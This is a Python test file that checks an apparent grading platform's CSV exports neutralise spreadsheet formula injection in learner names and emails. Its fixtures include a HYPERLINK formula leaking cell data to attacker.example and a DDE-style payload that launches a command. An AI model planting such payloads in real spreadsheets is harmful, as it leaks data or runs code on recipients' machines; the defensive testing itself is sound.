"""Formula injection: text a learner typed must reach an instructor's spreadsheet as text.

A learner who names themselves `=HYPERLINK(...)` or `@SUM(...)` gets a live formula into the LMS
export when the cell is written as it is; OWASP's rule (a leading single quote) makes it text.
"""

import csv
import re
from pathlib import Path

import pytest

import boundarylab
from boundarylab.grading.blueprint import Assignment, Item
from boundarylab.grading.demo import Learner as DemoLearner
from boundarylab.grading.report import tables
from boundarylab.grading.report.cohort import Cohort, Learner
from boundarylab.grading.submissions import write_roster

SRC = Path(boundarylab.__file__).parent
LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your grade")'


def _read(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _cohort(*learners: Learner) -> Cohort:
    """A cohort of these learners with no analytics: all that the LMS export reads."""
    assignment = Assignment("posttest-a", "Post-test A", "posttest", "assessment", (Item("conf-001", 2, 1),))
    empty = {name: None for name in Cohort.__dataclass_fields__ if name not in ("assignment", "passing", "learners")}
    return Cohort(assignment=assignment, passing=0.8, learners=learners, **empty)


def test_a_learner_named_as_a_formula_reaches_the_lms_export_as_text(tmp_path):
    evil = Learner("s1", LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-202@example.org", True, 3.0, 3.0, 1, True)
    path = tables.lms_grades(_cohort(evil), tmp_path / "lms_grades.csv")
    row = _read(path)[0]
    assert row["First name"] == "'" + LINK
    assert row["Last name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Email address"] == "'+1-202@example.org"
    assert row["Percent"] == "100.0" and row["Passed"] == "yes"


def test_a_formula_in_the_roster_is_written_as_text(tmp_path):
    learner = DemoLearner("=1+1", "-2+3", "\t=cmd", "\r@x", 0.5, None, "2026-01-01")
    row = _read(write_roster(tmp_path, [learner]))[0]
    assert row == {"id": "'=1+1", "first_name": "'-2+3", "last_name": "'\t=cmd", "email": "'\r@x"}


@pytest.mark.parametrize("text", ["=1+1", "-1+2", "@A1", "\t=1", "\r=1", "-", "=", "-0.5x"])
def test_every_formula_start_is_neutralised(text):
    from boundarylab.reports.spreadsheet import safe_cell

    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.125", "+3", "12.5", "Zoë", "a=b", "", None, 0, -1.5, "'=already"])
def test_numbers_and_plain_text_are_left_alone(value):
    from boundarylab.reports.spreadsheet import safe_cell

    assert safe_cell(value) == ("" if value is None else str(value))


def test_every_csv_file_is_written_through_the_one_safe_helper():
    writers = [
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["reports/spreadsheet.py"]
